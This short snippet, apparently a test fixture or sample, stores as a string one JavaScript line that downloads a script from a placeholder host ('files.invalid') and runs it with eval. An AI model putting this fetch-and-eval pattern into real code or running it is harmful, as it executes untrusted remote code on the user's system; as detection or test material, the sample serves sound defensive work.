SOURCE = """
const r = await fetch("https://files.invalid/s.js"); eval(await r.text());
"""
